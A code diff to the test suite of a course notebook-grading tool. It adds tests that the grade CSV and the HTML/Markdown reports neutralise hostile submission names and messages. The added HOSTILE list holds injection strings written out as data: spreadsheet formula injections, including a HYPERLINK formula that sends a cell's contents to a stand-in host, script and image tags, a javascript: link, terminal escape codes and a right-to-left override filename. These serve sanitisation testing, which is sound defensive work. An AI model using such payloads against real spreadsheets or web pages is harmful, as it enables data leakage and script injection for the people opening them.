@@ -6,10 +6,13 @@ The default tier needs no worker process (a few seconds); grading a class is in 
 
 from __future__ import annotations
 
+import csv
 import filecmp
 import os
+import re
 import shutil
 import sys
+import unicodedata
 from pathlib import Path
 
 import nbformat
@@ -20,7 +23,7 @@ from course_utils.grading import cli as grade
 from course_utils.grading import judge as grade_judge
 from course_utils.grading import plan as grade_plan
 from course_utils.grading.exercises import Invalid, checker_calls, code_sources, exercises, identify, load_check
-from course_utils.grading.report import markdown
+from course_utils.grading.report import Result, markdown, write_reports
 
 ROOT = Path(__file__).resolve().parents[1]
 SUBMISSIONS = ROOT / "tests" / "submissions"
@@ -100,14 +103,66 @@ def test_report_counts_most_common_mistake_first_and_lists_flags():
 
 
 def test_rows_and_csv(tmp_path):
-    results = [{"submission": "b.ipynb", "exercise": "05_causal_mask", "flags": "",
-                "values": {"causal_mask": "correct", "masked_attention": "timed out", "leaks_future": "not done"}},
-               {"submission": "a.ipynb", "exercise": "", "values": {}, "flags": "", "invalid": "invalid: not a notebook"}]
+    results = [Result("b.ipynb", "05_causal_mask",
+                      {"causal_mask": "correct", "masked_attention": "timed out", "leaks_future": "not done"}),
+               Result("a.ipynb", problem="invalid: not a notebook")]
     rows = grade.table_rows(results)
     grade.write_csv(rows, tmp_path / "grades.csv")
     lines = (tmp_path / "grades.csv").read_text().splitlines()
     assert lines[0] == "submission,exercise,correct,tasks,causal_mask,masked_attention,leaks_future,flags"
     assert lines[1].startswith("a.ipynb,,0,0,invalid: not a notebook,") and lines[2].startswith("b.ipynb,05_causal_mask,1,3,")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv"]  # no temporary file left
+
+
+HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+           "name\n# Forged heading\n", "caf\udce9/05.ipynb", "lone \ud800 surrogate", "\x1b[31mred\x1b[0m\x07\x1b]0;title\x07",
+           "<script>alert(1)</script>", "<img src=http://x.example/t.png>", "[click](javascript:alert(1))",
+           "![i](http://x.example/t.png)", "a|b", "\u202egnp.exe"]
+
+
+def test_any_name_or_message_becomes_a_safe_row_and_a_safe_report(tmp_path):
+    """Odd bytes (Latin-1 names, lone surrogates) never stop the table; no cell is a formula, no raw HTML,
+    link or image, no forged line and no control character reaches grades.csv or the reports."""
+    results = [Result(f"{name}/05_causal_mask.ipynb", "05_causal_mask",
+                      {"causal_mask": f"wrong: {name}", "masked_attention": f"crashed: {name}", "leaks_future": "correct"},
+                      flags=f"causal_mask: copy of {name}") for name in HOSTILE]
+    results += [Result(name, problem=f"invalid: {name}") for name in HOSTILE]
+    rows = grade.table_rows(results)
+    out = tmp_path / "grades.csv"
+    grade.write_csv(rows, out)
+    paths = write_reports(rows, out, "none (\x1b[2J<b>)")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "grades_report.html", "grades_report.md"]
+    with out.open(newline="", encoding="utf-8") as f:
+        table = list(csv.reader(f))
+    assert len(table) == 1 + 2 * len(HOSTILE)
+    assert_safe_outputs(out, paths)
+    assert any(r[0] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")/05_causal_mask.ipynb" for r in table)
+    assert any(r[0] == "caf\\xe9/05.ipynb" for r in table)  # the Latin-1 byte, shown as itself
+
+
+def assert_safe_outputs(csv_path: Path, reports: list[Path]) -> None:
+    """The check of issue 30 on a grade table and its reports (also used by the class test)."""
+    raw = csv_path.read_bytes()
+    raw.decode("utf-8")
+    with csv_path.open(newline="", encoding="utf-8") as f:
+        for row in csv.reader(f):
+            for cell in row:
+                assert cell.lstrip()[:1] not in ("=", "+", "-", "@"), cell
+                assert not any(unicodedata.category(c) in ("Cc", "Cs") for c in cell), repr(cell)
+    for path in reports:
+        text = path.read_text(encoding="utf-8")
+        assert not any(unicodedata.category(c) in ("Cc", "Cs") and c != "\n" for c in text), path
+        lowered = text.lower()
+        assert "<script" not in lowered and "<img" not in lowered, path
+        if path.suffix == ".md":
+            headings = [line for line in text.splitlines() if line.startswith("#")]
+            assert all(h.startswith(("# Class report", "## ", "### ")) for h in headings), headings
+            assert "Forged heading" not in "\n".join(h for h in headings), headings
+            assert not re.search(r"(?<!\\)\]\(", text), "a Markdown link or image in the report"
+        else:
+            tags = set(re.findall(r"<([a-zA-Z0-9]+)", text))
+            assert tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "table", "tr",
+                            "th", "td", "ul", "li"}, tags
 
 
 # -- reading a submission -----------------------------------------------------------------------------
